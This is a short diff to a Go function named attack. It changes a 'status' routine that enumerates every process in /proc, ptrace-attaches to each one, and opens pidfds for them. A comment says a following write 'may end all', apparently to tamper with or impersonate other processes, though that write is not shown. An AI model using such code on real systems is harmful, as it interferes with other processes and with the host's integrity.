@@ -130,16 +130,20 @@ func attack(args []string) int {
 		}
 	case "status": // says in every process's place that all is well, and ends with another status
 		dirs, _ := filepath.Glob("/proc/[0-9]*")
+		var others []int
 		for _, dir := range dirs {
-			pid := number(filepath.Base(dir))
-			if pid == os.Getpid() {
-				continue
+			if pid := number(filepath.Base(dir)); pid != os.Getpid() {
+				others = append(others, pid)
 			}
+		}
+		for _, pid := range others { // before the first write, which may end all
 			if unix.PtraceAttach(pid) == nil {
 				_ = unix.PtraceDetach(pid)
 			} else if pid != 1 { // the supervisor, and what stands between
 				fmt.Println("not to be traced", pid)
 			}
+		}
+		for _, pid := range others {
 			process, err := unix.PidfdOpen(pid, 0)
 			if err != nil {
 				continue
